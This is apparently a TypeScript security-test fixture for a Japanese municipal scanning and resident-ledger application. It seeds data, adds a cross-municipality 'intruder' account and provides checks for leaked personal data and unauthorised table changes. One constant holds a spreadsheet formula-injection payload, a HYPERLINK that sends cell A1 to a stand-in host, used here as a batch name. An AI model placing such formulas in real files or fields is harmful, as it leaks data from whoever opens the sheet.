import { sql } from 'kysely';
import { expect } from 'vitest';
import { createAccount } from '../../ledger/accounts/create-account.ts';
import { ensureMunicipality } from '../../ledger/accounts/municipality.ts';
import { setPolicy } from '../../ledger/accounts/policy.ts';
import { type Db, openDatabase } from '../../ledger/database.ts';
import { inMunicipality } from '../../ledger/scope.ts';
import { createLog } from '../../runtime/log.ts';
import { Role } from '../../schemas/accounts.ts';
import { reviewApi } from '../../schemas/api/review.ts';
import { uploadApi } from '../../schemas/api/upload.ts';
import { PASSWORD_ALONE } from '../support/account-deps.ts';
import { openScanOffice, type ScanOffice } from '../support/scan-office.ts';
import { MUNICIPALITY, PASSWORD } from '../support/test-program.ts';

export const ELSEWHERE = '112453';
/** Everything one account can be. */
const OF_STAFF = Role.options.filter((role) => role !== 'contractor');
const FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"開く")';

export type Target = Readonly<{
  office: ScanOffice;
  /** What is there of the municipality, whoever may see it. */
  owner: Db;
  /** Everything written on a sheet of the municipality, or held in its register, that is a person's. */
  secrets: readonly string[];
  /** The one number that whoever attacks has found out: of a person who is in the ledger. */
  known: string;
  log(): string;
  /** Changes with any row of the municipality; its audit log, its sessions and when somebody last logged in apart. */
  fingerprint(): Promise<string>;
  /** Elsewhere everything is allowed: also to lock oneself out, or to ask more of all accounts. Takes that back. */
  restoreElsewhere(): Promise<void>;
  expectNothingLeaked(text: string): void;
  close(): Promise<void>;
}>;

/**
 * The whole program with a day's work of one municipality in it: two sheets in the ledger, one on a desk, one waiting, a
 * file half sent. Another municipality has one account, which may do everything there.
 */
export async function openTarget(name: string): Promise<Target> {
  const lines: string[] = [];
  const log = createLog('debug', { write: (line: string) => void lines.push(line) });
  const office = await openScanOffice(name, log);
  const scope = { kind: 'municipality', municipalityId: MUNICIPALITY } as const;
  const owner = openDatabase(office.ownerUrl, { max: 2, scope });
  await workADay(office);
  await settleElsewhere(office);
  const known = await inTheLedger(owner);
  const secrets = (await personalData(owner)).filter((secret) => secret !== known);
  return {
    ...{ office, owner, secrets, known },
    log: () => lines.join(''),
    fingerprint: () => fingerprintOf(owner),
    restoreElsewhere: () => restoreElsewhere(office),
    expectNothingLeaked: (text) => {
      expect(secrets.filter((secret) => text.includes(secret))).toEqual([]);
    },
    close: async () => {
      await owner.destroy();
      await office.shut();
    },
  };
}

async function workADay(office: ScanOffice): Promise<void> {
  const done = await office.newBatch('朝の分', 2);
  await office.scanIn(done, 'morning.pdf', [1, 2]);
  await office.review([done]);
  const open = await office.newBatch(FORMULA, null);
  await office.scanIn(open, 'afternoon.pdf', [3, 4]);
  await office.first.call(reviewApi.claim, { body: { purpose: 'verify' } });
  const body = { fileName: 'half.pdf', byteSize: 20_000_000, lastModified: 1 };
  await office.clerk.call(uploadApi.begin, { params: { batchId: open }, body });
}

async function settleElsewhere({ program }: ScanOffice): Promise<void> {
  const context = () => program.operator(ELSEWHERE);
  const town = { municipalityId: ELSEWHERE, name: '試験市', demonstration: true };
  await inMunicipality(ELSEWHERE, async () => {
    await ensureMunicipality(program.db, context(), town);
    await setPolicy(program.db, context(), PASSWORD_ALONE);
  });
  const account = { loginName: 'intruder', displayName: 'よその人', password: PASSWORD };
  await inMunicipality(ELSEWHERE, () =>
    createAccount(program.db, context(), { ...account, roles: OF_STAFF }),
  );
}

async function restoreElsewhere({ program }: ScanOffice): Promise<void> {
  await inMunicipality(ELSEWHERE, async () => {
    await setPolicy(program.db, program.operator(ELSEWHERE), PASSWORD_ALONE);
    await program.db.updateTable('accounts').set({ failedLogins: 0, lockedUntil: null }).execute();
  });
}

async function inTheLedger(owner: Db): Promise<string> {
  const { residentId } = await owner
    .selectFrom('ledgerContents')
    .select('residentId')
    .where('municipalityId', '=', MUNICIPALITY)
    .where('residentId', 'is not', null)
    .executeTakeFirstOrThrow();
  return residentId ?? '';
}

/** Names, kana and numbers of residents; nothing so short that it could stand anywhere. */
async function personalData(owner: Db): Promise<string[]> {
  const residents = await owner
    .selectFrom('residents')
    .select(['residentId', 'name', 'kana', 'address'])
    .where('municipalityId', '=', MUNICIPALITY)
    .execute();
  const tickets = await owner
    .selectFrom('issuedTickets')
    .select('ticketNumber')
    .where('municipalityId', '=', MUNICIPALITY)
    .execute();
  return [
    ...residents.flatMap((each) => Object.values(each)),
    ...tickets.map(({ ticketNumber }) => ticketNumber),
  ].filter((secret) => secret.length >= 5);
}

/** The log that a refusal is written to, and who is logged in, may change. */
const OUR_OWN = ['audit_events', 'audit_checkpoints', 'sessions'];

async function fingerprintOf(owner: Db): Promise<string> {
  const tables = await tablesOf(owner);
  const parts = await Promise.all(
    tables.map(async (table) => {
      const { rows } = await sql<{ hash: string | null }>`
        select md5(string_agg(t.said, '|' order by t.said)) as hash
        from (select (to_jsonb(r) - 'last_login_at')::text as said, municipality_id from ${sql.table(table)} r) t
        where municipality_id = ${MUNICIPALITY}`.execute(owner);
      return `${table} ${rows[0]?.hash}`;
    }),
  );
  return parts.join('\n');
}

async function tablesOf(owner: Db): Promise<string[]> {
  const { rows } = await sql<{ tableName: string }>`
    select c.table_name from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
    where c.table_schema = 'yoshin' and c.column_name = 'municipality_id' and t.table_type = 'BASE TABLE'
    order by 1`.execute(owner);
  return rows.map(({ tableName }) => tableName).filter((table) => !OUR_OWN.includes(table));
}
